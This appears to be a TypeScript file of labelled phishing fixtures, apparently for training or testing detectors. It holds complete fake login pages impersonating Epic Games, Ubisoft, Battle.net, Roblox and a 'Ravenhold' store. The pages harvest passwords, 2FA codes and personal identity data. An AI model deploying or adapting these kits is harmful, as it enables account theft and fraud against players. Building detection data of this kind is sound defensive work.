import { htmlRoute, type Entry } from '../entry.js';
import { jsonRoute } from '../parts/e-bin.js';
import { RAVEN_CSS, STEAM_CSS, bnetMark, doc, epicMark, popupWindow, qrSvg, ravenFooter, ravenLogo, riotMark, robloxMark, steamMark, ubiMark } from '../parts/yc-kit.js';

export const entries: Entry[] = [
{
  id: 'yc-epic-vbucks-redeem-login',
  label: 'phishing',
  kind: 'store-login-kit',
  url: 'https://epicgames-rewards.store/redeem?ref=yt_creator_7781',
  body: doc({
    title: 'Redeem Reward | Epic Games',
    css: `*{box-sizing:border-box}body{margin:0;background:#121212;color:#fff;font-family:Inter,"Brutal Type",Arial,sans-serif}
.top{height:56px;background:#2a2a2a;display:flex;align-items:center;padding:0 20px;gap:20px}.top a{color:#ccc;text-decoration:none;font-size:13px;text-transform:uppercase}
.wrap{max-width:460px;margin:50px auto;background:#202020;border-radius:8px;padding:36px 40px}
h1{font-size:22px;text-align:center;margin:16px 0 6px}.sub{text-align:center;color:#aaa;font-size:14px}
.plat{display:grid;grid-template-columns:1fr 1fr;gap:10px;margin:20px 0}.plat button{background:#2f2f2f;border:2px solid transparent;color:#fff;padding:14px;border-radius:4px;cursor:pointer;font-weight:600}
.plat button.on{border-color:#0078f2}
label{display:block;font-size:12px;color:#aaa;margin:14px 0 6px}input{width:100%;height:46px;background:#121212;border:1px solid #3a3a3a;border-radius:4px;color:#fff;padding:0 12px;font-size:15px}
.go{width:100%;height:50px;background:#0078f2;border:0;border-radius:4px;color:#fff;font-weight:700;margin-top:22px;cursor:pointer;text-transform:uppercase}
.vb{display:flex;align-items:center;justify-content:center;gap:10px;font-size:34px;font-weight:800;margin-top:10px;color:#4fc3f7}
.small{font-size:12px;color:#888;text-align:center;margin-top:18px}`,
    body: `<div class="top">${epicMark(34)}<a href="#">Store</a><a href="#">Distribution</a><a href="#">Support</a><a href="#">Unreal Engine</a></div>
<div class="wrap">
<div style="text-align:center">${epicMark(56)}</div>
<div id="s1"><h1>Creator Code reward</h1><p class="sub">Thanks for supporting a creator! Your reward is ready to be added to your account.</p>
<div class="vb">&#9670; 13,500 V-Bucks</div>
<p class="sub" style="margin-top:18px">Choose the platform you play on</p>
<div class="plat"><button type="button" class="on">PC / Mac</button><button type="button">PlayStation</button><button type="button">Xbox</button><button type="button">Nintendo Switch</button></div>
<button class="go" onclick="nx(2)">Continue</button></div>
<form id="s2" style="display:none" method="post" action="next.php"><h1>Sign in with Epic Games</h1><p class="sub">Sign in to the account that should receive the reward.</p>
<input type="hidden" name="step" value="login"><input type="hidden" name="platform" id="pf" value="PC">
<label>Email Address</label><input type="email" name="email" required autocomplete="email">
<label>Password</label><input type="password" name="password" required autocomplete="current-password">
<button class="go" type="submit">Log in now</button>
<p class="small"><a href="#" style="color:#fff">Forgot your password?</a> &middot; Privacy Policy</p></form>
</div>
<p class="small">&copy; 2025, Epic Games, Inc. All rights reserved. Epic, Epic Games, the Epic Games logo, Fortnite, the Fortnite logo are trademarks or registered trademarks of Epic Games, Inc.</p>
<script>
var bs=document.querySelectorAll('.plat button');bs.forEach(function(b){b.onclick=function(){bs.forEach(function(o){o.className=''});b.className='on';document.getElementById('pf').value=b.textContent}});
function nx(n){document.getElementById('s1').style.display='none';document.getElementById('s2').style.display='block'}
</script>`,
  }),
  routes: {
    'epicgames-rewards.store/next.php': htmlRoute(doc({
      title: 'Two-Factor Authentication | Epic Games',
      css: `body{margin:0;background:#121212;color:#fff;font-family:Arial,sans-serif}.wrap{max-width:460px;margin:80px auto;background:#202020;border-radius:8px;padding:36px 40px;text-align:center}input{width:100%;height:46px;background:#121212;border:1px solid #3a3a3a;color:#fff;font-size:22px;letter-spacing:8px;text-align:center}button{width:100%;height:50px;background:#0078f2;border:0;color:#fff;font-weight:700;margin-top:20px}`,
      body: `<div class="wrap">${epicMark(50)}<h2>Additional Security Required</h2><p style="color:#aaa">Enter the security code we sent to the email address on your account or your authenticator app.</p><form method="post" action="next.php"><input type="hidden" name="step" value="2fa"><input name="code" maxlength="6" inputmode="numeric" autocomplete="one-time-code"><button>Continue</button></form></div>`,
    })),
  },
},
{
  id: 'yc-ravenhold-store-lookalike-login',
  label: 'phishing',
  kind: 'store-login-kit',
  url: 'https://store-ravenhold.com/login?return=%2Fgifts%2Fclaim%2FRH-7G2K-QX91',
  body: doc({
    title: 'Sign in | Ravenhold',
    head: `<link rel="icon" href="data:image/svg+xml,%3Csvg xmlns='http://www.w3.org/2000/svg' viewBox='0 0 40 40'%3E%3Cpath d='M4 30 L18 6 L24 16 L32 4 L36 30 L26 22 L18 34 Z' fill='%23c8102e'/%3E%3C/svg%3E">`,
    css: RAVEN_CSS + `.card{max-width:420px;margin:56px auto 0;background:#181a20;border:1px solid #262a33;border-radius:12px;padding:34px 36px}
.card h1{font-size:22px;margin:18px 0 4px}.card p{color:#9aa0aa;font-size:14px;margin:0 0 20px}
.alert{background:#3a1d22;border:1px solid #6b2631;color:#ffb4be;border-radius:8px;padding:10px 12px;font-size:13px;margin-bottom:16px}
label{font-size:13px;color:#c9ccd3;display:block;margin:12px 0 6px}input{width:100%;height:44px;border-radius:6px;border:1px solid #333844;background:#0f1115;color:#fff;padding:0 12px;font-size:15px}
.sso{display:grid;grid-template-columns:repeat(4,1fr);gap:8px;margin-top:18px}.sso span{background:#0f1115;border:1px solid #333844;border-radius:6px;height:40px;display:grid;place-items:center;font-size:12px;color:#c9ccd3}
.row{display:flex;justify-content:space-between;font-size:13px;margin-top:12px}`,
    body: `<div class="rh-top">${ravenLogo(30)}<nav><a href="#">Store</a><a href="#">Launcher</a><a href="#">Hub</a><a href="#">News</a></nav><span class="sp"></span></div>
<div class="card">${ravenLogo(28)}<h1>Sign in to claim your gift</h1><p>Someone sent you a gift: <b style="color:#fff">Ironveil: Deluxe Edition</b>. Sign in to add it to your library.</p>
<div class="alert">Your session has expired. Please sign in again to continue.</div>
<form method="post" action="/auth/login.php" id="lg"><input type="hidden" name="return" value="/gifts/claim/RH-7G2K-QX91">
<label for="e">Email or Ravenhold ID</label><input id="e" name="login" autocomplete="username" required>
<label for="p">Password</label><input id="p" type="password" name="password" autocomplete="current-password" required>
<div class="row"><label style="margin:0"><input type="checkbox" style="width:auto;height:auto" checked> Keep me signed in</label><a href="#">Forgot password?</a></div>
<button class="rh-btn" style="width:100%;margin-top:20px;height:46px">Sign in</button></form>
<div class="sso"><span>Google</span><span>Apple</span><span>Xbox</span><span>Steam</span></div>
<p style="margin-top:20px;font-size:13px">New to Ravenhold? <a href="#">Create an account</a></p></div>
${ravenFooter()}`,
  }),
  routes: {
    'store-ravenhold.com/auth/login.php': htmlRoute(doc({
      title: 'Verify it\'s you | Ravenhold',
      css: RAVEN_CSS + `.card{max-width:420px;margin:70px auto;background:#181a20;border:1px solid #262a33;border-radius:12px;padding:34px 36px}input{width:100%;height:48px;border-radius:6px;border:1px solid #333844;background:#0f1115;color:#fff;font-size:22px;letter-spacing:8px;text-align:center}`,
      body: `<div class="card">${ravenLogo(26)}<h2>Verify it's you</h2><p style="color:#9aa0aa">We emailed a 6-digit code to the address on your account. Enter it below to finish signing in.</p><form method="post" action="/auth/otp.php"><input name="otp" maxlength="6" inputmode="numeric" autocomplete="one-time-code" required><button class="rh-btn" style="width:100%;margin-top:18px">Verify</button></form></div>`,
    })),
  },
},
{
  id: 'yc-ubisoft-connect-pl-login',
  label: 'phishing',
  kind: 'store-login-kit',
  url: 'https://ubisoft-connect-nagrody.pl/logowanie?nagroda=ac-shadows-pakiet',
  body: doc({
    title: 'Ubisoft Connect — Zaloguj się',
    lang: 'pl',
    css: `*{box-sizing:border-box}body{margin:0;font-family:"Ubisoft Sans",Arial,sans-serif;background:linear-gradient(160deg,#0a0e2a,#2b0b3f 60%,#090909);color:#fff;min-height:100vh}
.box{width:420px;margin:60px auto;background:rgba(20,20,30,.92);border-radius:6px;padding:34px 36px;box-shadow:0 20px 60px rgba(0,0,0,.5)}
h1{font-size:20px;text-align:center;margin:18px 0}.promo{background:#1e2f66;border-left:4px solid #3e7bff;padding:10px 12px;font-size:13px;margin-bottom:18px}
input{width:100%;height:44px;background:#fff;color:#000;border:0;border-radius:3px;padding:0 12px;font-size:15px;margin:6px 0 14px}
button{width:100%;height:46px;background:#006ef5;color:#fff;border:0;border-radius:3px;font-size:15px;font-weight:700;cursor:pointer}
.f{font-size:12px;color:#aab;text-align:center;margin-top:16px}.f a{color:#6fa8ff}`,
    body: `<div class="box"><div style="text-align:center">${ubiMark(54)}</div><h1>Zaloguj się za pomocą konta Ubisoft</h1>
<div class="promo"><b>Nagroda czeka!</b> Pakiet <i>Assassin's Creed Shadows — Edycja Deluxe</i> dla członków Ubisoft+ w Polsce. Zaloguj się, aby przypisać nagrodę do konta.</div>
<form id="uf"><label>Adres e-mail</label><input type="email" name="email" required><label>Hasło</label><input type="password" name="haslo" required>
<label style="font-size:13px"><input type="checkbox" style="width:auto;height:auto;margin:0 6px 0 0" checked>Zapamiętaj mnie</label><br><br>
<button type="submit">ZALOGUJ SIĘ</button></form>
<p class="f"><a href="#">Nie pamiętasz hasła?</a> · Nie masz konta? <a href="#">Utwórz konto</a></p>
<p class="f">© 2025 Ubisoft Entertainment. Wszelkie prawa zastrzeżone.</p></div>
<script>
document.getElementById('uf').addEventListener('submit',function(e){e.preventDefault();var d=new URLSearchParams(new FormData(this));d.append('kraj','PL');d.append('czas',new Date().toISOString());
fetch('/api/sesja.php',{method:'POST',body:d}).then(function(r){return r.json()}).then(function(j){location.href=j.next||'https://store.ubisoft.com/pl/home'}).catch(function(){location.href='https://store.ubisoft.com/pl/home'})});
</script>`,
  }),
  routes: { 'ubisoft-connect-nagrody.pl/api/sesja.php': jsonRoute({ ok: 1, next: '/weryfikacja' }) },
},
{
  id: 'yc-battlenet-ko-login-kit',
  label: 'phishing',
  kind: 'store-login-kit',
  url: 'https://kr-battlenet-account.com/login/ko/?ref=https%3A%2F%2Fkr.shop.battle.net%2Fko-kr',
  body: doc({
    title: 'Battle.net 로그인',
    lang: 'ko',
    css: `*{box-sizing:border-box}body{margin:0;background:#0e1018 radial-gradient(circle at 50% 0,#1a2a4a,#0e1018 60%);color:#fff;font-family:"Malgun Gothic","Apple SD Gothic Neo",Arial,sans-serif}
.box{width:400px;margin:60px auto;background:#15171e;border:1px solid #262a36;border-radius:4px;padding:32px}
input{width:100%;height:46px;background:#0e1018;border:1px solid #3a3f50;color:#fff;padding:0 12px;font-size:15px;border-radius:4px;margin-bottom:14px}
button{width:100%;height:48px;background:#148eff;border:0;border-radius:4px;color:#fff;font-size:16px;font-weight:700;cursor:pointer}
.warn{background:#3b2a0a;border:1px solid #7a5a12;color:#ffd27a;font-size:13px;padding:10px;border-radius:4px;margin-bottom:16px}
.lk{font-size:13px;color:#9aa3b5;text-align:center;margin-top:14px}.lk a{color:#3ea7ff}`,
    body: `<div class="box"><div style="text-align:center;margin-bottom:20px">${bnetMark(36)}</div>
<div class="warn">비정상적인 로그인 시도가 감지되었습니다. 계정 보호를 위해 본인 확인 후 이용해 주세요.</div>
<div id="a"><form id="lf"><input type="text" name="accountName" placeholder="이메일 또는 전화번호" required><input type="password" name="password" placeholder="비밀번호" required><button>로그인</button></form>
<p class="lk"><a href="#">계정 정보를 잊으셨나요?</a> · <a href="#">무료 Battle.net 계정 생성</a></p></div>
<div id="b" style="display:none"><p style="font-size:14px">본인 확인을 위해 아래 정보를 입력해 주세요.</p><form id="vf"><input name="name" placeholder="이름" required><input name="birth" placeholder="생년월일 (YYMMDD)" maxlength="6" required><input name="phone" placeholder="휴대폰 번호" required><input name="auth" placeholder="인증번호 6자리" maxlength="6"><button>확인</button></form></div>
<p class="lk" style="font-size:11px">© 2025 BLIZZARD ENTERTAINMENT, INC. 모든 권리 보유.</p></div>
<script>
function post(d,cb){var x=new XMLHttpRequest();x.open('POST','next.php');x.setRequestHeader('Content-Type','application/x-www-form-urlencoded');x.onloadend=cb;x.send(d)}
document.getElementById('lf').onsubmit=function(e){e.preventDefault();post(new URLSearchParams(new FormData(this)).toString()+'&s=1',function(){document.getElementById('a').style.display='none';document.getElementById('b').style.display='block'})};
document.getElementById('vf').onsubmit=function(e){e.preventDefault();post(new URLSearchParams(new FormData(this)).toString()+'&s=2',function(){location.replace('https://kr.shop.battle.net/ko-kr')})};
</script>`,
  }),
  routes: { 'kr-battlenet-account.com/login/ko/next.php': jsonRoute({ r: 1 }) },
},
{
  id: 'yc-roblox-profile-view-login',
  label: 'phishing',
  kind: 'store-login-kit',
  url: 'https://www.roblox.com.gd/users/2751098341/profile',
  body: doc({
    title: 'xXsk8rgirlXx - Roblox',
    css: `*{box-sizing:border-box}body{margin:0;background:#232527;color:#fff;font-family:"Builder Sans","HCo Gotham SSm",Arial,sans-serif}
.nav{height:40px;background:#191b1d;display:flex;align-items:center;padding:0 14px;gap:18px;font-size:14px}.nav a{color:#fff;text-decoration:none}
.prof{max-width:970px;margin:24px auto;background:#2d2f31;border-radius:8px;padding:22px;display:flex;gap:22px;filter:blur(2px)}
.av{width:140px;height:140px;border-radius:50%;background:#5f6d7a}
#lg{position:fixed;inset:0;background:rgba(0,0,0,.55);display:flex;align-items:center;justify-content:center}
.box{background:#fff;color:#393b3d;width:360px;border-radius:8px;padding:26px}.box h2{text-align:center;margin:0 0 16px;font-size:22px}
.box input{width:100%;height:38px;border:1px solid #bdbebe;border-radius:4px;padding:0 10px;margin-bottom:10px;font-size:15px}
.box button{width:100%;height:38px;border:1px solid #393b3d;background:#fff;border-radius:8px;font-weight:600;cursor:pointer}
.box .alt{font-size:13px;text-align:center;margin-top:12px;color:#335fff}`,
    body: `<div class="nav">${robloxMark(20)}<a href="#">Charts</a><a href="#">Marketplace</a><a href="#">Create</a><a href="#">Robux</a></div>
<div class="prof"><div class="av"></div><div><h1>xXsk8rgirlXx</h1><p>@xXsk8rgirlXx · 1,208 Friends · 33K Followers</p><p>trading my Headless + Korblox, dm me!! 🌸 verified trader</p></div></div>
<div id="lg"><div class="box"><h2>Login to Roblox</h2><p style="font-size:13px;text-align:center;margin-top:-8px">You must be logged in to view this profile and trade.</p>
<form method="POST" action="/newlogin/login.php"><input name="username" placeholder="Username/Email/Phone" required><input type="password" name="password" placeholder="Password" required><button type="submit">Log In</button></form>
<p class="alt"><a href="#" style="color:#335fff">Forgot Password or Username?</a></p><p class="alt">Email me a one-time code · Quick Log In</p><p style="font-size:13px;text-align:center">Don't have an account? <a href="#">Sign Up</a></p></div></div>
<script>if(top!==self)top.location=self.location;document.oncontextmenu=function(){return false};</script>`,
  }),
},
];
